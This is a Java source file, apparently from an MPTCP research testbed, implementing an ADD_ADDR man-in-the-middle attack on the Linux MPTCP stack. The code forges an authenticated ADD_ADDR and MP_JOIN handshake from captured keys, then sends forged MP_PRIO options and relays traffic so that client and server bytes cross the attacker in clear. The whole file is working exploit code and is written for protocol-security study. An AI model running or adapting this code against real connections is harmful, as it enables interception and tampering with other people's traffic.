package org.mptcpverify.kernel;

import java.io.IOException;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.OptionalLong;
import org.mptcpverify.crypto.MptcpCrypto;
import org.mptcpverify.vocab.AttackId;
import org.mptcpverify.wire.Bytes;
import org.mptcpverify.wire.MptcpOption;
import org.mptcpverify.wire.TcpSegment;

/**
 * add-addr-mitm: the attacker forges, in the server's name and inside the captured subflow's
 * window, an ADD_ADDR announcing the attacker's address, with the v1 HMAC computed from the
 * captured keys (key of the sender = server key, then client key). Success: the client kernel
 * accepts it and opens a subflow (SYN + MP_JOIN carrying the connection's token) to the
 * attacker. The attacker then answers as the server would (it can compute HMAC-B) and checks
 * the client's HMAC-A, so the client ends up with an authenticated subflow to the attacker.
 */
public final class AddAddrMitm implements KernelAttack {
    static final int ADDRESS_ID = 7;

    @Override
    public Profile profile() {
        return Profile.of(AttackId.ADD_ADDR_MITM, WRONG_KEYS);
    }

    @Override
    public boolean run(AttackContext ctx) throws IOException {
        CapturedConnection c = ctx.fresh();
        Wiretap tap = ctx.tap();
        long hmac = MptcpCrypto.addAddrHmac(c.hash(), c.serverKey(), c.clientKey(), ADDRESS_ID,
                Topology.FORGED, OptionalInt.empty());
        MptcpOption.AddAddr add = new MptcpOption.AddAddr(1, 0, ADDRESS_ID, Topology.FORGED, OptionalInt.empty(),
                OptionalLong.of(hmac));
        int mark = tap.size();
        tap.send(Topology.CLIENT_MAC, Forge.inWindow(c, false, TcpSegment.ACK, add, Bytes.empty()));
        ctx.note("attacker: sent ADD_ADDR id " + ADDRESS_ID + " " + Topology.FORGED.getHostAddress()
                + " as the server, HMAC from the captured keys");

        Optional<Wiretap.Seen> synSeen = tap.await(mark, t -> t.dst().equals(Topology.FORGED)
                && t.has(TcpSegment.SYN) && !t.has(TcpSegment.ACK), 3_000);
        if (synSeen.isEmpty()) {
            ctx.note("client kernel: no SYN to " + Topology.FORGED.getHostAddress() + " within 3 s");
            ctx.note("client MIB counters changed: " + ctx.clientCounterDelta());
            return false;
        }
        TcpSegment syn = synSeen.get().segment();
        Optional<MptcpOption.MpJoinSyn> join = CapturedConnection.option(syn, MptcpOption.MpJoinSyn.class);
        boolean tokenOk = join.isPresent() && join.get().receiverToken() == c.serverToken();
        ctx.note("client kernel: SYN from " + syn.src().getHostAddress() + ":" + syn.srcPort() + " to "
                + syn.dst().getHostAddress() + ":" + syn.dstPort()
                + (join.isPresent() ? String.format(" with MP_JOIN token %08x (%s the connection's)",
                join.get().receiverToken(), tokenOk ? "=" : "!=") : " without MP_JOIN"));
        if (!tokenOk) {
            return false;
        }

        // Complete the join as the server would: the attacker holds both keys.
        var rnd = ctx.random();
        int randomB = rnd.nextInt();
        long isn = rnd.nextLong() & 0xffffffffL;
        long hmacB = MptcpCrypto.joinSynAckHmac(c.hash(), c.serverKey(), c.clientKey(), randomB,
                join.get().senderRandom());
        mark = tap.size();
        tap.send(Topology.CLIENT_MAC, new TcpSegment(Topology.FORGED, syn.src(), syn.dstPort(), syn.srcPort(), isn,
                (syn.seq() + 1) & 0xffffffffL, TcpSegment.SYN | TcpSegment.ACK, Forge.WINDOW,
                List.of(Forge.mss(1460), Forge.mptcp(new MptcpOption.MpJoinSynAck(0, ADDRESS_ID, hmacB, randomB))),
                Bytes.empty()));
        Optional<Wiretap.Seen> third = tap.await(mark, t -> CapturedConnection.sameWay(syn, t)
                && !t.has(TcpSegment.SYN), 2_000);
        boolean established = false;
        if (third.isPresent()) {
            Optional<MptcpOption.MpJoinAck> ja = CapturedConnection.option(third.get().segment(), MptcpOption.MpJoinAck.class);
            Bytes expected = MptcpCrypto.joinAckHmac(c.hash(), c.clientKey(), c.serverKey(),
                    join.get().senderRandom(), randomB);
            if (ja.isPresent() && MptcpCrypto.constantTimeEquals(expected, ja.get().hmac())) {
                established = true;
                ctx.note("client kernel: third ACK with a valid HMAC-A: it authenticated the attacker as the server");
                TcpSegment t = third.get().segment();
                tap.send(Topology.CLIENT_MAC, new TcpSegment(Topology.FORGED, syn.src(), syn.dstPort(), syn.srcPort(),
                        (isn + 1) & 0xffffffffL, (t.seq()) & 0xffffffffL, TcpSegment.ACK, Forge.WINDOW,
                        List.of(Forge.mptcp(dataAck(ctx.fresh().clientNextDsn()))), Bytes.empty()));
            } else {
                ctx.note("client kernel answered the attacker's SYN/ACK with flags 0x"
                        + Integer.toHexString(third.get().segment().flags()) + " " + KernelReply.of(third.get().segment()).options());
            }
        } else {
            ctx.note("client kernel: no third ACK within 2 s");
        }
        if (established) {
            relay(ctx, c, syn, isn);
        }
        int appMark = ctx.client().eventCount();
        ctx.client().command("info");
        var info = ctx.client().awaitFrom(appMark, e -> "info".equals(e.path("event").asText()), 2_000);
        int subflows = info.map(i -> i.path("info").path("subflows").asInt(-1)).orElse(-1);
        ctx.note("client MPTCP_INFO: additional subflows = " + subflows
                + info.map(i -> ", add_addr_accepted " + i.path("info").path("add_addr_accepted").asText()).orElse(""));
        Map<String, Long> delta = ctx.clientCounterDelta();
        ctx.note("client MIB counters changed: " + delta);
        ctx.note(established ? "client has a subflow to the attacker" : "join to the attacker not completed");
        return delta.getOrDefault("MPTcpExtAddAddr", 0L) >= 1;
    }

    static final byte[] REPLY = "reply from the server\n".getBytes(java.nio.charset.StandardCharsets.US_ASCII);
    static final byte[] SECOND = "second message from the client\n".getBytes(java.nio.charset.StandardCharsets.US_ASCII);

    /**
     * The relay half of the attack (thesis Figure 2.5): the attacker joins the server itself,
     * marks the client's original subflow as backup with a forged MP_PRIO (RFC 8684 gives MP_PRIO
     * no authentication), and relays between the client's subflow to it and its own subflow to
     * the server. The client's next bytes then cross the attacker in clear.
     */
    private static void relay(AttackContext ctx, CapturedConnection c, TcpSegment clientSyn, long attackerIsnC)
            throws IOException {
        Optional<ForgedJoin.Joined> s = ForgedJoin.toServer(ctx, c, ADDRESS_ID);
        if (s.isEmpty()) {
            ctx.note("relay: the attacker's own join to the server failed");
            return;
        }
        Wiretap tap = ctx.tap();
        Relay.Leg legC = new Relay.Leg(clientSyn.src(), clientSyn.srcPort(), clientSyn.seq(), Topology.CLIENT_MAC,
                clientSyn.dstPort(), attackerIsnC);
        Relay.Leg legS = new Relay.Leg(c.server(), c.serverPort(), s.get().serverIsn(), Topology.SERVER_MAC,
                s.get().port(), s.get().isn());
        try (Relay relay = new Relay(tap, legC, legS, tap.size())) {
            CapturedConnection now = ctx.fresh();
            tap.send(Topology.CLIENT_MAC, Forge.inWindow(now, false, TcpSegment.ACK,
                    new MptcpOption.MpPrio(true, OptionalInt.empty()), Bytes.empty()));
            ctx.note("attacker: sent MP_PRIO(backup) as the server on the client's original subflow");
            int appMark = ctx.server().eventCount();
            ctx.client().send(SECOND);
            byte[] expected = EavesdropHandshake.concat(ctx.clientData(), SECOND);
            ctx.server().awaitFrom(appMark, e -> ctx.server().received().length >= expected.length, 2_000);
            try {
                Thread.sleep(100);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            }
            byte[] seen = relay.clientPayload();
            ctx.note("relay: " + relay.relayed() + " segments relayed; client bytes that crossed the attacker: "
                    + EavesdropHandshake.printable(seen));
            ctx.note("server application read (whole stream): " + EavesdropHandshake.printable(ctx.server().received()));

            // The other direction: steer the server off the original subflow too, then let it answer.
            now = ctx.fresh();
            tap.send(Topology.SERVER_MAC, Forge.inWindow(now, true, TcpSegment.ACK,
                    new MptcpOption.MpPrio(true, OptionalInt.empty()), Bytes.empty()));
            ctx.note("attacker: sent MP_PRIO(backup) as the client on the original subflow");
            int clientMark = ctx.client().eventCount();
            ctx.server().send(REPLY);
            ctx.client().awaitFrom(clientMark, e -> "data".equals(e.path("event").asText()), 2_000);
            try {
                Thread.sleep(100);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            }
            ctx.note("relay: server bytes that crossed the attacker: " + EavesdropHandshake.printable(relay.serverPayload()));
            ctx.note("client application read (whole stream): " + EavesdropHandshake.printable(ctx.client().received()));
        }
    }

    /**
     * The fourth ACK must carry a DSS data ACK: Linux resets a join subflow whose first ACK from
     * the listener carries no MPTCP option (it treats that as a middlebox stripping options).
     */
    private static MptcpOption.Dss dataAck(long dsn) {
        return new MptcpOption.Dss(MptcpOption.Dss.F_ACK | MptcpOption.Dss.F_ACK8, OptionalLong.of(dsn),
                OptionalLong.empty(), OptionalLong.empty(), OptionalInt.empty(), OptionalInt.empty());
    }
}
